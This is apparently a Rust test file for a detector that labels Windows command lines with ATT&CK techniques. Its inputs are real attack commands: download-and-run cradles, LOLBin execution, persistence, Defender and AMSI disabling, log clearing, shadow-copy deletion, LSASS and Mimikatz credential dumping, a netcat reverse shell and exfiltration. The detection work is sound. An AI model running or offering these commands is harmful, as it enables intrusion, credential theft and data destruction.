//! One line or more for each rule, by theme.

use super::check;

#[test]
fn downloads() {
    check(&[
        (
            "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')\"",
            &[("downloads http://198.51.100.23/u.ps1 and runs it in memory", "T1059.001")],
        ),
        (
            "powershell iex(iwr http://198.51.100.23/u.ps1 -UseBasicParsing)",
            &[("downloads http://198.51.100.23/u.ps1 and runs it in memory", "T1059.001")],
        ),
        (
            "powershell -c \"$b=(New-Object Net.WebClient).DownloadData('http://198.51.100.23/a.bin'); whoami\"",
            &[("downloads http://198.51.100.23/a.bin", "T1105"), ("asks who the user is", "T1033")],
        ),
        (
            "powershell (New-Object Net.WebClient).DownloadFile('http://198.51.100.23/a.exe','C:\\Users\\Public\\a.exe')",
            &[("downloads http://198.51.100.23/a.exe to C:\\Users\\Public\\a.exe", "T1105")],
        ),
        (
            "powershell -c iwr http://198.51.100.23/a.exe -OutFile C:\\a.exe",
            &[("downloads http://198.51.100.23/a.exe to C:\\a.exe", "T1105")],
        ),
        (
            "curl.exe -sLo C:\\a.exe https://cdn.example.com/a.exe",
            &[("downloads https://cdn.example.com/a.exe to C:\\a.exe", "T1105")],
        ),
        ("curl -fsSL https://cdn.example.com/a", &[("fetches https://cdn.example.com/a", "T1105")]),
        (
            "certutil.exe -urlcache -split -f http://198.51.100.23/a.exe C:\\Users\\Public\\a.exe",
            &[(
                "downloads http://198.51.100.23/a.exe to C:\\Users\\Public\\a.exe with certutil",
                "T1105",
            )],
        ),
        (
            "certutil -decode C:\\a.b64 C:\\a.exe",
            &[("decodes the base64 file C:\\a.b64 to C:\\a.exe", "T1140")],
        ),
        (
            "bitsadmin /transfer job /download /priority high http://198.51.100.23/a.exe C:\\a.exe",
            &[("downloads http://198.51.100.23/a.exe to C:\\a.exe as a BITS job", "T1197")],
        ),
        (
            "bitsadmin /SetNotifyCmdLine job C:\\a.exe NULL",
            &[("makes a BITS job run a program", "T1197")],
        ),
        (
            "Start-BitsTransfer -Source http://198.51.100.23/a.exe -Destination C:\\a.exe",
            &[("downloads http://198.51.100.23/a.exe to C:\\a.exe as a BITS job", "T1197")],
        ),
        (
            "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -DownloadFile -url http://198.51.100.23/a -path C:\\a",
            &[("downloads http://198.51.100.23/a to C:\\a with Defender's own program", "T1105")],
        ),
        ("ftp -s:C:\\x.txt", &[("runs the FTP commands of C:\\x.txt", "T1105")]),
    ]);
}

#[test]
fn execution_and_proxies() {
    check(&[
        (
            "powershell -c \"[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)\"",
            &[("loads a .NET program from memory", "T1620")],
        ),
        (
            "powershell -c \"iex (Get-Content C:\\x.txt)\"",
            &[("runs the text of a file, C:\\x.txt", "T1059.001")],
        ),
        (
            "powershell -c \"iex (gp 'HKCU:\\Software\\Zoom').u\"",
            &[("runs text from the registry, HKCU:\\Software\\Zoom", "T1059.001")],
        ),
        ("wscript.exe C:\\a.vbs", &[("runs the VBScript C:\\a.vbs", "T1059.005")]),
        ("cscript //nologo C:\\a.js", &[("runs the JScript C:\\a.js", "T1059.007")]),
        (
            "powershell -c Start-Process calc.exe -WindowStyle Hidden",
            &[("runs calc.exe in a hidden window", "T1564.003")],
        ),
        (
            "regsvr32 /s /n /u /i:http://198.51.100.23/a.sct scrobj.dll",
            &[("regsvr32 loads the scriptlet http://198.51.100.23/a.sct", "T1218.010")],
        ),
        (
            "mshta http://198.51.100.23/a.hta",
            &[("mshta runs the page http://198.51.100.23/a.hta", "T1218.005")],
        ),
        (
            "mshta vbscript:Close(Execute(\"x\"))",
            &[("mshta runs VBScript from the command line", "T1218.005")],
        ),
        (
            "rundll32.exe C:\\Users\\a\\AppData\\Local\\Temp\\z.dll,Start",
            &[(
                "rundll32 runs C:\\Users\\a\\AppData\\Local\\Temp\\z.dll,Start from a folder that users can write",
                "T1218.011",
            )],
        ),
        (
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
            &[("rundll32 runs JavaScript from the command line", "T1218.011")],
        ),
        (
            "msiexec /q /i http://198.51.100.23/a.msi",
            &[("installs http://198.51.100.23/a.msi with msiexec", "T1218.007")],
        ),
        (
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\x.csproj",
            &[("builds and runs the project C:\\x.csproj with MSBuild", "T1127.001")],
        ),
        (
            "InstallUtil.exe /logfile= /LogToConsole=false /U C:\\a.dll",
            &[("runs C:\\a.dll by way of InstallUtil", "T1218.004")],
        ),
        ("cmstp.exe /s /ns C:\\a.inf", &[("cmstp installs the profile C:\\a.inf", "T1218.003")]),
        (
            "odbcconf /a {REGSVR C:\\a.dll}",
            &[("odbcconf loads a DLL: /a {REGSVR C:\\a.dll}", "T1218.008")],
        ),
        (
            "wmic os get /format:\"http://198.51.100.23/a.xsl\"",
            &[
                ("wmic runs the style sheet http://198.51.100.23/a.xsl", "T1220"),
                ("asks for the system: os get /format:\"http://198.51.100.23/a.xsl\"", "T1082"),
            ],
        ),
        ("pcalua.exe -a C:\\a.exe", &[("starts C:\\a.exe by way of pcalua", "T1202")]),
        (
            "forfiles /p c:\\windows /m notepad.exe /c calc.exe",
            &[("starts calc.exe by way of forfiles", "T1202")],
        ),
    ]);
}

#[test]
fn persistence_and_accounts() {
    check(&[
        (
            "schtasks /create /tn \"Zoom Update\" /tr \"C:\\z.exe -x\" /sc minute /mo 15 /ru SYSTEM",
            &[(
                "creates the scheduled task Zoom Update that runs C:\\z.exe -x every 15 minutes as SYSTEM",
                "T1053.005",
            )],
        ),
        (
            "schtasks.exe /Create /F /SC ONLOGON /TN upd /TR C:\\z.exe",
            &[("creates the scheduled task upd that runs C:\\z.exe at logon", "T1053.005")],
        ),
        (
            "schtasks /create /s WS02 /u CORP\\adm /tn x /tr C:\\z.exe /sc daily /st 03:00",
            &[
                (
                    "creates the scheduled task x that runs C:\\z.exe (daily at 03:00) on WS02",
                    "T1053.005",
                ),
                ("uses a scheduled task on WS02 as CORP\\adm", "T1053.005"),
            ],
        ),
        ("schtasks /delete /tn x /f", &[("deletes the scheduled task x", "T1053.005")]),
        (
            "sc create upd binPath= \"C:\\z.exe -k\" start= auto",
            &[("creates the service upd that runs C:\\z.exe -k", "T1543.003")],
        ),
        (
            "sc.exe \\\\WS02 create upd binPath= C:\\z.exe",
            &[("creates the service upd on WS02 that runs C:\\z.exe", "T1543.003")],
        ),
        (
            "New-Service -Name upd -BinaryPathName C:\\z.exe",
            &[("creates the service upd that runs C:\\z.exe", "T1543.003")],
        ),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Zoom /t REG_SZ /d \"C:\\z.exe\" /f",
            &[("adds the run key value Zoom that starts C:\\z.exe", "T1547.001")],
        ),
        (
            "powershell Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Zoom -Value 'C:\\z.exe'",
            &[("adds the run key value Zoom that starts C:\\z.exe", "T1547.001")],
        ),
        (
            "reg add \"HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v Shell /d \"explorer.exe, C:\\z.exe\" /f",
            &[("makes logon start explorer.exe, C:\\z.exe (Winlogon Shell)", "T1547.004")],
        ),
        (
            "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /d C:\\cmd.exe",
            &[("starts C:\\cmd.exe in place of an accessibility program", "T1546.008")],
        ),
        (
            "copy C:\\z.lnk \"C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\\"",
            &[("puts C:\\z.lnk into the startup folder", "T1547.001")],
        ),
        ("net user helper P@ss1 /add", &[("creates the account helper", "T1136.001")]),
        (
            "net user helper P@ss1 /add /domain",
            &[("creates the domain account helper", "T1136.002")],
        ),
        ("net user helper P@ss1", &[("sets the password of the account helper", "T1098")]),
        ("net1 user guest /active:yes", &[("enables the account guest", "T1098")]),
        (
            "net localgroup administrators helper /add",
            &[("adds helper to the local group administrators", "T1098.007")],
        ),
        (
            "net group \"Domain Admins\" helper /add /domain",
            &[("adds helper to the domain group Domain Admins", "T1098.007")],
        ),
        (
            "Add-LocalGroupMember -Group Administrators -Member helper",
            &[("adds helper to the local group Administrators", "T1098.007")],
        ),
    ]);
}

#[test]
fn discovery() {
    check(&[
        ("whoami /all", &[("asks for the user's groups and privileges", "T1033")]),
        ("cmd /c whoami", &[("asks who the user is", "T1033")]),
        ("quser", &[("lists who is logged on", "T1033")]),
        (
            "net localgroup administrators",
            &[("lists the members of the local administrators", "T1069.001")],
        ),
        (
            "net group \"domain admins\" /domain",
            &[("lists domain groups: domain admins", "T1069.002")],
        ),
        ("net user", &[("lists local accounts", "T1087.001")]),
        ("net user /domain", &[("lists domain accounts", "T1087.002")]),
        ("net view \\\\FS01", &[("lists computers or shares of FS01", "T1018")]),
        ("net share", &[("lists shared folders", "T1135")]),
        ("net accounts", &[("asks for the password policy", "T1201")]),
        ("nltest /domain_trusts", &[("lists the domain's trusts", "T1482")]),
        ("nltest /dclist:corp", &[("asks for domain controllers", "T1018")]),
        ("systeminfo", &[("asks for the system and its updates", "T1082")]),
        ("ipconfig /all", &[("asks for the network settings", "T1016")]),
        ("arp -a", &[("lists neighbours on the network", "T1018")]),
        ("netstat -ano", &[("lists network connections", "T1049")]),
        ("tasklist /svc", &[("lists processes", "T1057")]),
        ("tasklist /fi \"imagename eq lsass.exe\"", &[("looks for the process of LSASS", "T1057")]),
        (
            "wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname",
            &[("asks which security products are installed", "T1518.001")],
        ),
        ("powershell Get-ADComputer -Filter *", &[("lists the domain's computers", "T1018")]),
        ("reg query HKLM\\Software\\X", &[("reads the registry key HKLM\\Software\\X", "T1012")]),
        ("sc query", &[("asks for services", "T1007")]),
        ("cmdkey /list", &[("lists stored credentials", "T1555.004")]),
        ("findstr /si password *.txt", &[("searches files for passwords", "T1552.001")]),
        (
            "adfind.exe -f objectcategory=computer",
            &[("lists the domain's computers with AdFind", "T1018")],
        ),
    ]);
}

#[test]
fn evasion() {
    check(&[
        (
            "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
            &[("turns Defender's real-time monitoring off", "T1562.001")],
        ),
        (
            "powershell -c Add-MpPreference -ExclusionPath C:\\Users\\Public",
            &[("keeps C:\\Users\\Public from Defender's scans", "T1562.001")],
        ),
        (
            "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
            &[("turns Defender off in the registry (DisableAntiSpyware = 1)", "T1562.001")],
        ),
        (
            "sc stop WinDefend",
            &[
                ("stops or removes a security service: stop WinDefend", "T1562.001"),
                ("stops or deletes the service WinDefend", "T1489"),
            ],
        ),
        (
            "powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
            &[("switches AMSI off, the scanning of scripts", "T1562.001")],
        ),
        ("wevtutil cl Security", &[("clears the event log Security", "T1070.001")]),
        ("Clear-EventLog -LogName System", &[("clears the event log System", "T1070.001")]),
        ("auditpol /clear /y", &[("removes the audit policy", "T1562.002")]),
        ("netsh advfirewall set allprofiles state off", &[("turns the firewall off", "T1562.004")]),
        (
            "netsh advfirewall firewall add rule name=\"x\" dir=in action=allow protocol=TCP localport=4444",
            &[("opens the firewall for port 4444 by the rule x", "T1562.004")],
        ),
        (
            "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d C:\\z.exe /f",
            &[("has a trusted program start C:\\z.exe with full rights", "T1548.002")],
        ),
        ("attrib +h +s C:\\z.exe", &[("hides C:\\z.exe", "T1564.001")]),
        (
            "fsutil usn deletejournal /d C:",
            &[("deletes the change journal of a volume", "T1070.004")],
        ),
        (
            "net use \\\\FS01\\C$ /delete",
            &[("removes the connection to \\\\FS01\\C$", "T1070.005")],
        ),
        (
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1",
            &[("makes Windows keep passwords in memory in plain text", "T1112")],
        ),
        (
            "bcdedit /set {current} safeboot network",
            &[("makes Windows start in safe mode", "T1562.009")],
        ),
        (
            "reg add HKCU\\Software\\X /v a /d 1 /f",
            &[("sets the registry value a of HKCU\\Software\\X to 1", "T1112")],
        ),
    ]);
}

#[test]
fn impact_and_credentials() {
    check(&[
        ("vssadmin.exe Delete Shadows /All /Quiet", &[("deletes the shadow copies", "T1490")]),
        ("wmic shadowcopy delete", &[("deletes the shadow copies", "T1490")]),
        ("bcdedit /set {default} recoveryenabled No", &[("turns automatic repair off", "T1490")]),
        ("wbadmin delete catalog -quiet", &[("deletes backups: delete catalog -quiet", "T1490")]),
        ("taskkill /f /im sql.exe", &[("ends the process sql.exe by force", "T1489")]),
        ("shutdown /r /t 0", &[("restarts the computer", "T1529")]),
        (
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full",
            &[(
                "dumps the memory of process 624 to C:\\t\\l.dmp with comsvcs.dll, as is done with LSASS",
                "T1003.001",
            )],
        ),
        (
            "procdump64.exe -accepteula -ma lsass.exe C:\\l.dmp",
            &[("dumps the memory of LSASS to C:\\l.dmp", "T1003.001")],
        ),
        (
            "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
            &[("runs Mimikatz, which reads credentials from memory", "T1003.001")],
        ),
        (
            "reg save HKLM\\SAM C:\\s.hiv",
            &[("saves the registry hive of local passwords (SAM) to C:\\s.hiv", "T1003.002")],
        ),
        (
            "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\x\" q q",
            &[("copies the directory's database with all password hashes", "T1003.003")],
        ),
        (
            "netsh wlan show profile name=x key=clear",
            &[("shows the passwords of wireless networks", "T1555")],
        ),
    ]);
}

#[test]
fn other_computers_and_the_way_out() {
    check(&[
        (
            "psexec.exe \\\\WS02 -u CORP\\adm -p x cmd /c whoami",
            &[
                ("runs a command on WS02 with PsExec as CORP\\adm", "T1569.002"),
                ("asks who the user is", "T1033"),
            ],
        ),
        (
            "wmic /node:WS02 /user:CORP\\adm process call create \"cmd /c C:\\z.exe\"",
            &[("runs a command on WS02 by WMI as CORP\\adm", "T1047")],
        ),
        (
            "winrs -r:WS02 ipconfig",
            &[
                ("runs a command on WS02 by Windows Remote Management", "T1021.006"),
                ("asks for the network settings", "T1016"),
            ],
        ),
        (
            "powershell Invoke-Command -ComputerName WS02 -ScriptBlock { hostname }",
            &[
                ("runs a command on WS02 by Windows Remote Management", "T1021.006"),
                ("asks for the computer's name", "T1082"),
            ],
        ),
        (
            "net use \\\\FS01\\C$ pw /user:CORP\\svc",
            &[("opens \\\\FS01\\C$ as CORP\\svc", "T1021.002")],
        ),
        (
            "copy C:\\z.exe \\\\WS02\\ADMIN$\\z.exe",
            &[("copies files to or from \\\\WS02\\ADMIN$\\z.exe", "T1570")],
        ),
        ("mstsc /v:WS02", &[("opens a remote desktop on WS02", "T1021.001")]),
        (
            "netsh interface portproxy add v4tov4 listenport=4444 connectport=3389 connectaddress=10.0.0.5",
            &[("forwards port 4444 to 10.0.0.5:3389", "T1090.001")],
        ),
        (
            "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
            &[("allows remote desktop connections", "T1021.001")],
        ),
        ("ngrok.exe tcp 3389", &[("opens a tunnel with ngrok: tcp 3389", "T1572")]),
        (
            "ssh -R 8080:localhost:3389 root@198.51.100.7",
            &[("forwards a port by SSH: -R 8080:localhost:3389 root@198.51.100.7", "T1572")],
        ),
        (
            "AnyDesk.exe --install C:\\x --silent",
            &[("installs or starts AnyDesk, a remote-access program", "T1219")],
        ),
        (
            "nc.exe 198.51.100.7 443 -e cmd.exe",
            &[("gives a shell to the network with netcat: 198.51.100.7 443 -e cmd.exe", "T1095")],
        ),
        (
            "rar.exe a -hpsecret C:\\x.rar C:\\Users",
            &[("packs files into C:\\x.rar with a password", "T1560.001")],
        ),
        (
            "powershell Compress-Archive -Path C:\\Users -DestinationPath C:\\x.zip",
            &[("packs C:\\Users into C:\\x.zip", "T1560.001")],
        ),
        (
            "curl -T C:\\x.zip https://up.example.com/",
            &[("uploads C:\\x.zip to https://up.example.com/", "T1048")],
        ),
        (
            "rclone.exe copy C:\\x mega:x",
            &[("copies files to cloud storage with rclone: copy C:\\x mega:x", "T1567.002")],
        ),
    ]);
}
